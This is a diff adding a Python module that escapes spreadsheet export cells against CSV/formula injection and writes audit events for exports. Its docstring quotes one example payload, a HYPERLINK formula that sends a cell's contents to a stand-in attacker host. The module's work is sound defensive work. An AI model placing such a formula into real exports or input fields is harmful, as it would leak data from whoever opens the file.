@@ -1,0 +1,135 @@
+"""Writing CSV and XLSX exports that a spreadsheet cannot be tricked into running, and
+recording who downloaded what.
+
+A cell whose text starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is
+read by Excel, LibreOffice and Google Sheets as a formula: a person's name, a comment or
+a free-text answer such as ``=HYPERLINK("http://evil.example/?"&A2, "open")`` would run
+on the machine of whoever opens the export. Every export passes its cells through
+``csv_row`` or ``xlsx_row``, which prefix such text with a single quote (OWASP's advice
+for CSV injection): the spreadsheet shows it as text, and the import strips the quote
+again (``unescape``), so an export re-imports unchanged. Real numbers, dates and
+booleans stay what they are; only text is escaped.
+
+The escaping is plain Python; ``record_export`` writes the audit event every export
+and file download must leave (who, which export, with which filters, when).
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+import re
+from collections.abc import Iterable, Mapping, Sequence
+from datetime import date, datetime, time, timedelta
+from decimal import Decimal
+from typing import TYPE_CHECKING, Any
+
+if TYPE_CHECKING:
+    from django.db import models
+    from django.http import HttpRequest
+
+    from bellwether.accounts.models import User
+    from bellwether.core.models import Organisation
+
+FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
+# Characters XML 1.0 cannot hold: openpyxl refuses to write them (a 500 on export).
+_ILLEGAL_IN_XLSX = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")
+_KEPT = (bool, int, float, Decimal, datetime, date, time, timedelta)
+
+
+def escape(text: str) -> str:
+    """``text`` as a spreadsheet shows it without evaluating it."""
+    return "'" + text if text.startswith(FORMULA_TRIGGERS) else text
+
+
+def unescape(text: str) -> str:
+    """Undo ``escape`` (only where it acted: a quote before a formula trigger)."""
+    if text[:1] == "'" and text[1:2] != "" and text[1:2] in FORMULA_TRIGGERS:
+        return text[1:]
+    return text
+
+
+def cell(value: Any) -> Any:
+    """One cell's value: numbers, dates, booleans and empty cells as they are; anything
+    else as escaped text."""
+    if value is None or isinstance(value, _KEPT):
+        return value
+    return escape(value if isinstance(value, str) else str(value))
+
+
+def csv_row(values: Iterable[Any]) -> list[Any]:
+    return [cell(value) for value in values]
+
+
+def csv_rows(rows: Iterable[Iterable[Any]]) -> Iterable[list[Any]]:
+    return (csv_row(row) for row in rows)
+
+
+def xlsx_row(values: Iterable[Any]) -> list[Any]:
+    """As ``csv_row``, without the control characters an XLSX file cannot hold."""
+    out = []
+    for value in values:
+        value = cell(value)
+        if isinstance(value, str):
+            value = _ILLEGAL_IN_XLSX.sub("", value)
+        out.append(value)
+    return out
+
+
+def csv_bytes(rows: Iterable[Iterable[Any]], *, bom: bool = True) -> bytes:
+    """A whole CSV export, escaped, as UTF-8 (with a BOM so Excel reads it as UTF-8)."""
+    buffer = io.StringIO(newline="")
+    csv.writer(buffer).writerows(csv_rows(rows))
+    return (("\ufeff" if bom else "") + buffer.getvalue()).encode("utf-8", "replace")
+
+
+# --- auditing ------------------------------------------------------------------------------
+
+
+def record_export(
+    *,
+    action: str,
+    organisation: Organisation | None,
+    actor: User | None,
+    fmt: str,
+    request: HttpRequest | None = None,
+    target: models.Model | None = None,
+    filters: Mapping[str, Any] | None = None,
+    rows: int | None = None,
+    details: Mapping[str, Any] | None = None,
+) -> None:
+    """Write the audit event of one export or download: who (``actor``, or the command
+    line when there is none), what (``action``, ``target``, ``fmt``, the ``filters`` the
+    export was made with, how many ``rows``), when (the event's time) and from where."""
+    # Imported here: the escaping above is plain Python used by pure modules (the
+    # import's checks) that must not pull in the database.
+    from bellwether.core import audit
+
+    data: dict[str, Any] = {"format": fmt, "filters": _plain(filters or {})}
+    if rows is not None:
+        data["rows"] = rows
+    data.update(_plain(details or {}))
+    audit.record(
+        action=action,
+        organisation=organisation,
+        actor=actor,
+        actor_label="" if actor is not None else "command line",
+        target=target,
+        details=data,
+        request=request,
+    )
+
+
+def _plain(values: Mapping[str, Any]) -> dict[str, Any]:
+    """Filters as JSON-safe values (ids, text), never longer than an audit row needs."""
+    out: dict[str, Any] = {}
+    for key, value in values.items():
+        if value is None or value == "" or value == []:
+            continue
+        if isinstance(value, bool | int | float):
+            out[str(key)] = value
+        elif isinstance(value, Sequence) and not isinstance(value, str):
+            out[str(key)] = [str(item)[:200] for item in value][:50]
+        else:
+            out[str(key)] = str(value)[:200]
+    return out
